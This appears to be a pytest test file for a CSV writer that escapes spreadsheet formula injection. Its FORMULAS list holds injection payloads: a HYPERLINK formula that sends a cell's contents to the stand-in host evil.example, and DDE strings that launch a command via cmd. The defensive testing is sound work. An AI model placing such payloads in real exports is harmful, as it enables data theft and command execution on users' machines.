"""dutyfree.csv: the one writer of CSV for people, safe to open in a spreadsheet, and what the
imports read back of it."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dutyfree.csv import cell, cell_read, csv_text

FORMULAS = [
    '=HYPERLINK("http://evil.example/?q="&A2,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def read_back(text: str) -> list[list[str]]:
    return [
        [cell_read(value) for value in row] for row in csv.reader(io.StringIO(text, newline=""))
    ]


class TestCell:
    @pytest.mark.parametrize("value", FORMULAS)
    def test_text_a_spreadsheet_would_run_is_quoted(self, value: str) -> None:
        assert cell(value) == "'" + value

    @pytest.mark.parametrize("value", ["'=1+1", "''+1"])
    def test_text_quoted_already_gets_one_quote_more(self, value: str) -> None:
        assert cell(value) == "'" + value

    @pytest.mark.parametrize(
        "value", ["-50.0", "+3", "-7", "化妆品", "Cosmetics", "'quoted'", "a=b", "", "100.00"]
    )
    def test_numbers_and_other_text_stay_as_they_are(self, value: str) -> None:
        assert cell(value) == value

    def test_numbers_and_none(self) -> None:
        assert cell(-5) == -5
        assert cell(None) == ""


class TestReadBack:
    @given(st.text())
    def test_every_text_reads_back_as_it_was(self, value: str) -> None:
        cell_value = cell(value)
        assert isinstance(cell_value, str)
        assert cell_read(cell_value) == value

    def test_a_file_reads_back_as_it_was(self) -> None:
        rows = [[value, "-50.0", "'=1"] for value in FORMULAS]
        text = csv_text(["name", "change", "note"], rows)
        written = list(csv.reader(io.StringIO(text, newline="")))[1:]
        assert [row[0] for row in written] == ["'" + value for value in FORMULAS]
        assert read_back(text) == [["name", "change", "note"], *rows]

    @pytest.mark.parametrize("value", ["'hello", "'-50.0", "'a=b", "'"])
    def test_only_the_protective_quote_is_taken_off(self, value: str) -> None:
        assert cell_read(value) == value
